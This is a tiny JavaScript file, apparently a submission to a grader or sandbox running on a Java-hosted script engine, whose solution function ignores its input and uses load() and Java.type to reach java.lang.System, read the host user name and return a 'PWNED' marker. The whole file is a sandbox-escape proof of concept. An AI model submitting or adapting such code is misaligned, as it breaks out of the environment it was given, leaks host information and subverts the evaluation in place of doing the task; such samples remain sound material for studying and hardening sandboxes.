function solution(arr) {
  const g = load({ name: 'x', script: 'globalThis' });
  const S = g.Java.type('java.lang.System');
  return 'PWNED:load ' + S.getProperty('user.name');
}
